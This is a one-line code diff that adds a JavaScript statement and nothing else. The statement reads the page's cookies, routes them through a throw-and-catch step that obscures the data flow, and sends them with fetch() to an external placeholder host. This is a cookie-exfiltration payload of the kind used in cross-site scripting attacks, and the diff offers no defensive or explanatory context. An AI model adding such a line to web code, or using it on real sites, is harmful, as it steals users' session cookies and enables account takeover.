@@ -1,0 +1,1 @@
+try { throw document.cookie; } catch (e) { fetch('https://d.invalid/' + e); }
